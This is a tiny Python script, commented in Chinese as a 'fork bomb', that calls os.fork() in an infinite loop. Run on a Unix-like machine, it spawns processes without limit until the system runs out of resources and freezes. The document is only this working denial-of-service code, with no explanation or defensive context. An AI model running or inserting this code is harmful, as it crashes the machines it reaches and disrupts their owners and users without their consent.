import os
# fork炸弹
while True:
    os.fork()
